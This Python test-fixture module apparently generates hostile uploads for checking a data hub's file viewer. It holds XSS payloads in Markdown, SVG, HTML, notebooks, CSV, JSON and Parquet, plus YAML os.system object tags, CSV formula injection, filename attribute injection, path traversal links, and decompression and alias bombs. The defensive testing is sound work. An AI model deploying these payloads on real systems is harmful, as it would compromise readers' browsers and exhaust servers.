"""Files that somebody might publish to run script in a reader's browser, to make it ask elsewhere, or to tire a hub."""

from __future__ import annotations

import io
import json
import struct
import zlib
from collections.abc import Callable
from typing import Any, Final

ELSEWHERE: Final = "http://127.0.0.1:9"
"""Nobody is there: whoever asks it was made to."""

HACK: Final = f"window.hacked=1;alert(1);fetch('{ELSEWHERE}/x')"
SCRIPT: Final = f"<script>{HACK}</script>"
IMAGE: Final = f'<img src="{ELSEWHERE}/p.png" onerror="{HACK}">'
SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HACK}">{SCRIPT}<foreignObject>{IMAGE}</foreignObject></svg>'
)


def _cells(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def _outputs(**data: Any) -> bytes:
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    return _cells({"cell_type": "code", "source": "1", "execution_count": SCRIPT, "outputs": [output]})


def _png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _parquet(make: Callable[[Any], Any], **options: Any) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(make(pa), out, **options)
    return out.getvalue()


def _death() -> bytes:
    """Two million rows of a thousand equal letters, 2 GB, in some kilobytes."""
    return _parquet(
        lambda pa: pa.table({"a": pa.DictionaryArray.from_arrays(pa.array([0] * 2_000_000, pa.int8()), ["x" * 999])}),
        store_schema=False,
        compression="zstd",
    )


MARKDOWN: Final[dict[str, str]] = {
    "script": f"# x\n\n{SCRIPT}\n\n{IMAGE}",
    "links of script": f"[a](javascript:{HACK}) [b](data:text/html,{SCRIPT}) [c](vbscript:x) <javascript:alert(1)>",
    "links with entities": f"[a](&#106;avascript:{HACK}) [b](java\tscript:alert(1)) [c](JaVaScRiPt:alert(1))",
    "pictures of others": f"![a]({ELSEWHERE}/a.png) ![b](//127.0.0.1:9/b.png) ![c](data:image/svg+xml,{SVG})",
    "a picture that breaks out": f'![x" onerror="{HACK}](a.png"onerror="{HACK} "t")',
    "svg and style": f"{SVG}\n\n<style>@import url({ELSEWHERE}/s);</style>\n\n<link rel=stylesheet href={ELSEWHERE}>",
    "a frame and a form": f"<iframe src={ELSEWHERE}></iframe>\n\n<form action={ELSEWHERE}><button>x</button></form>",
    "a language of code": f'```python"><{SCRIPT}\n1\n```',
    "front matter of objects": f"---\na: !!python/object/apply:os.system ['id']\n---\n{SCRIPT}",
    "front matter of aliases": "---\na: &a [x, x]\n"
    + "".join(f"{b}: &{b} [*{a}, *{a}, *{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "---\nx",
    "front matter of markup": f"---\n{json.dumps(SCRIPT)}: {json.dumps([IMAGE, SVG])}\n---\nx",
    "brackets": "[" * 65_536,
    "pictures begun": "![[" * 21_000,
    "code begun": "`a" * 32_000,
    "stress": "*a " * 21_000,
    "quotes": ">" * 65_536,
    "a wide table": "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|\n" + "|b" * 10_000 + "|",
    "turned writing": "a\u202eb\u2066c\u200f d\u0000e",
    "steps up": "[x](../../dao) [y](/dao) [z](files/../../../about) [w](#x)",
    "lists in lists": "".join("  " * n + "- a\n" for n in range(2_000)),
}

FILES: Final[dict[str, bytes | Callable[[], bytes]]] = {
    **{f"{name.replace(' ', '-')}.md": text.encode() for name, text in MARKDOWN.items()},
    "one-line.csv": b"a" * 2_000_000,
    "zeros.csv": b"a,b\n\x00,\x00\x01\n",
    "utf16.csv": "a,b\nä,ö\n".encode("utf-16"),
    "formulas.csv": b"a,b\n=cmd|'/c calc'!A0,@SUM(1)\n+1,-1\n",
    "wide.csv": b",".join(b"c%d" % n for n in range(20_000)) + b"\n",
    "markup.csv": f"{SCRIPT},b\n{IMAGE},{SVG}\n".encode(),
    "quotes.csv": b'a,"b\n' * 50_000,
    "deep.json": b"[" * 100_000 + b"]" * 100_000,
    "digits.json": b'{"a":' + b"9" * 100_000 + b"}",
    "markup.json": json.dumps({SCRIPT: [IMAGE, {SVG: SCRIPT}]}).encode(),
    "numbers.json": b"[NaN, Infinity, 1e999]",
    "many.json": json.dumps(list(range(200_000))).encode(),
    "claims.png": _png(65_535, 65_535, b"\x78\x9c"),
    "page.png": f"<!doctype html>{SCRIPT}".encode(),
    "script.gif": b"GIF89a=1;" + HACK.encode() + b";//",
    "bomb.png": lambda: _png(20_000, 20_000, zlib.compress(b"\0" * (20_000 * 2_501), 9)),
    "cut.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
    "drawing.svg": SVG.encode(),
    "page.html": f"<!doctype html><body onload={HACK!r}>{SCRIPT}".encode(),
    "code.js": HACK.encode(),
    "terminal.txt": b"\x1b]0;x\x07\x1b[2J" + bytes(range(256)),
    "markup.ipynb": _cells(
        {"cell_type": "markdown", "source": [SCRIPT, IMAGE, f"[x](javascript:{HACK})"]},
        {"cell_type": "code", "source": f'"""{SCRIPT}"""', "execution_count": 1, "outputs": []},
    ),
    "outputs.ipynb": _outputs(**{"text/html": SCRIPT, "application/javascript": HACK, "image/svg+xml": SVG}),
    "pictures.ipynb": _outputs(**{"image/png": "bm90IGEgcG5n", "text/plain": SCRIPT}),
    "nonsense.ipynb": json.dumps({"cells": [1, None, {"cell_type": [], "source": {"a": 1}, "outputs": "x"}]}).encode(),
    "list.ipynb": b"[]",
    "death.parquet": _death,
    "footer.parquet": b"PAR1" + b"x" * 40 + b"\xff\xff\xff\xffPAR1",
    "random.parquet": b"PAR1" + bytes(n * 7 % 251 for n in range(2_000)) + struct.pack("<I", 900) + b"PAR1",
    "markup.parquet": lambda: _parquet(lambda pa: pa.table({SCRIPT: [IMAGE], SVG: [SCRIPT]})),
    "wide.parquet": lambda: _parquet(lambda pa: pa.table({f"c{n}": [n] for n in range(3_000)})),
    "cell.parquet": lambda: _parquet(lambda pa: pa.table({"a": ["x" * 2**25] * 3}), compression="zstd"),
    "page.wav": f"<!doctype html>{SCRIPT}".encode(),
    "riff.wav": b"RIFF" + SCRIPT.encode(),
    f"<img src=x onerror={HACK.replace('/', '')}>.txt": b"x",
    f'" onmouseover="{HACK.replace("/", "")}".csv': b"a,b\n1,2\n",
    "a%2f..%2f?x=1&y=2#z.txt": b"x",
    "README.md": (
        f"---\na: b\n---\n# x\n\n{SCRIPT} [x](javascript:{HACK}) ![p](page.png) ![q]({ELSEWHERE}/q.png)".encode()
    ),
}
"""By name: the bytes, or what makes them."""


def data_of(name: str) -> bytes:
    """The bytes of a file."""
    made = FILES[name]
    return made if isinstance(made, bytes) else made()
